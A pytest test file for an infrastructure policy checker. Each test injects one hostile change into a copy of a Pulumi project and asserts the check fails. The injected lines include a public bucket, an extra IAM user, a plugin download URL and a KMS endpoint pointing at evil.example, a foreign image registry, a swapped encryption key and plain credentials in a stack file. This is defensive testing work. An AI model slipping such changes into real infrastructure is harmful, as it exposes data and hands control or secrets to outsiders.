# ruff: noqa: E501  # a change is one line
"""The whole check of a copy of the project with one hostile change: real program, real pack, real verdict."""

import json
from pathlib import Path

import pytest

from tests.program.cli.running import change, copy_of_the_project, run

MONITORING = "program/service/components/monitoring.py"
DATABASE = "program/service/components/database.py"
FUNCTION = "program/service/components/function.py"
STACK_FILE = "stacks/Pulumi.prod.yaml"
AWS = '__import__("pulumi_aws")'
OTHER_KEY = "arn:aws:kms:us-east-1:111111111111:key/11111111-2222-3333-4444-555555555555"


@pytest.fixture
def project(tmp_path) -> Path:
    return copy_of_the_project(tmp_path)


def stopped(project: Path, *arguments: str) -> tuple[set[str], dict]:
    """Return the mandatory rules that speak, and the whole result of the check, which must fail."""
    done = run("check", "--format", "json", *arguments, root=project)
    assert done.returncode == 1, done.stderr
    result = json.loads(done.stdout)
    found = [finding for stack in result["stacks"] for finding in stack["findings"]]
    return {item["rule"] for item in found if item["level"] == "mandatory" and item["outcome"] != "exempt"}, result


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (f'{AWS}.s3.Bucket("more", acl="public-read")', "known-types"),
        (f'{AWS}.iam.User("more")', "known-types"),
        (f'{AWS}.cloudcontrol.Resource("more", type_name="AWS::IAM::User", desired_state="{{}}")', "known-types"),
        (f'{AWS}.kms.Grant("more", key_id="x", grantee_principal="y", operations=["Decrypt"])', "known-types"),
        (
            'pulumi.CustomResource("pulumi-python:dynamic:Resource", "more", {"__provider": "code"})',
            "known-types",
        ),
        (f'{AWS}.sns.Topic("more", opts=pulumi.ResourceOptions(deleted_with=self.topic))', "known-options"),
        (f'{AWS}.sns.Topic("more", opts=pulumi.ResourceOptions(import_="x"))', "known-options"),
        (f'{AWS}.sns.Topic("more", opts=pulumi.ResourceOptions(retain_on_delete=True))', "known-options"),
        (
            f'{AWS}.sns.Topic("more", opts=pulumi.ResourceOptions(plugin_download_url="https://evil.example"))',
            "known-options",
        ),
        (f'{AWS}.Provider("more", region="us-east-1", profile="evil")', "known-properties"),
    ],
    ids=[
        "public bucket", "user", "cloud control", "grant", "dynamic resource",
        "deletedWith", "import", "retainOnDelete", "plugin address", "provider",
    ],
)  # fmt: skip
def test_what_the_program_makes_more_is_stopped(project, code, rule):
    anchor = "        self.topic = self._topic(args.email)\n"
    change(project, MONITORING, anchor, f"{anchor}        {code}\n")

    rules, _ = stopped(project, "--stack", "prod")

    assert rule in rules


@pytest.mark.parametrize(
    ("file", "old", "new", "rule"),
    [
        (DATABASE, "            storage_encrypted=True,\n", "            storage_encrypted=True, enable_http_endpoint=True,\n", "known-values"),
        (FUNCTION, "security_group_ids=[self.security_group.id]", 'security_group_ids=[self.security_group.id, "sg-0000000000000000a"]', "own-values"),
        (DATABASE, "            storage_encrypted=True,\n            kms_key_id=foundation.key.arn,\n", f'            storage_encrypted=True,\n            kms_key_id=foundation.key.arn.apply(lambda _: "{OTHER_KEY}"),\n', "own-values"),
        (STACK_FILE, "networking-stack/prod", "networking-stack/dev", "known-network"),
        (STACK_FILE, "111122223333.dkr.ecr.us-east-1", "444455556666.dkr.ecr.us-east-1", "lambda-image-registry"),
        (STACK_FILE, "111122223333.dkr.ecr.us-east-1", "111122223333.dkr.ecr.us-east-2", "lambda-image-registry"),
        (STACK_FILE, "  aws:region: us-east-1\n", "  aws:region: us-east-1\n  aws:endpoints: [{kms: https://evil.example}]\n", "stack-settings"),
        (STACK_FILE, "  aws:region: us-east-1\n", "  aws:region: us-east-1\n  aws:assumeRoles: [{roleArn: x}]\n", "stack-settings"),
        (STACK_FILE, "  aws:region: us-east-1\n", "  aws:region: us-east-1\n  aws:accessKey: AKIAIOSFODNN7EXAMPLE\n", "stack-settings"),
        (STACK_FILE, "environmentSuffix: main", "environmentSuffix: 12e5", "stack-settings"),
    ],
    ids=[
        "data API", "second group", "replaced reference", "dev's network", "foreign registry", "other region's image",
        "endpoint", "assumed role", "plain access key", "12e5",
    ],
)  # fmt: skip
def test_a_setting_that_moves_something_elsewhere_is_stopped(project, file, old, new, rule):
    change(project, file, old, new)

    rules, _ = stopped(project, "--stack", "prod")

    assert rule in rules


def test_a_provider_in_one_stack_alone_is_a_difference(project):
    anchor = "        self.topic = self._topic(args.email)\n"
    code = f'        if pulumi.get_stack() == "prod":\n            {AWS}.Provider("more", region="us-east-1")\n'
    change(project, MONITORING, anchor, anchor + code)

    _, result = stopped(project)

    undeclared = [item["resource"] for item in result["comparison"]["differences"] if not item["declared"]]
    assert undeclared == ["pulumi:providers:aws::more"]


def test_a_credential_is_refused_in_words_of_its_own(project):
    change(
        project, STACK_FILE, "  aws:region: us-east-1\n", "  aws:region: us-east-1\n  aws:secretKey: hunter2hunter2\n"
    )

    done = run("check", "--stack", "prod", root=project)

    assert "aws:secretKey is a credential, which no stack file may hold" in " ".join(done.stdout.split())
    assert "hunter2" not in done.stdout + done.stderr


@pytest.mark.parametrize(
    "lines",
    [
        ["parity:dataProtection: protected"],
        ["parity:egress: nat"],
        ["parity:alarmEmail: ops@example.com"],
    ],
    ids=["protected", "nat", "an address"],
)
def test_what_the_stack_files_may_say_has_no_finding_but_the_accepted_ones(project, lines):
    for stack in ("staging", "prod"):
        path = project / f"stacks/Pulumi.{stack}.yaml"
        path.write_text(path.read_text() + "".join(f"  {line}\n" for line in lines))

    done = run("check", "--format", "json", root=project)

    result = json.loads(done.stdout)
    found = [item for stack in result["stacks"] for item in stack["findings"] if item["outcome"] != "exempt"]
    # What a stack file asks for may make an accepted finding needless, which is said.
    assert [item for item in found if "nothing needs it" not in item["message"]] == []
    if lines == ["parity:dataProtection: protected"]:
        assert done.returncode == 0, [d for d in result["comparison"]["differences"] if not d["declared"]]


def test_a_network_by_ids_has_no_finding(project):
    change(
        project,
        STACK_FILE,
        "  parity:networkingStackRef: organization/networking-stack/prod\n",
        "  parity:vpcId: vpc-0123456789abcdef0\n"
        "  parity:vpcCidr: 10.7.0.0/16\n"
        "  parity:privateSubnetIds: [subnet-0a, subnet-0b, subnet-0c]\n"
        "  parity:availabilityZones: [us-east-1a, us-east-1b, us-east-1c]\n",
    )

    done = run("check", "--stack", "prod", "--format", "json", root=project)

    (stack,) = json.loads(done.stdout)["stacks"]
    assert [item for item in stack["findings"] if item["outcome"] != "exempt"] == []
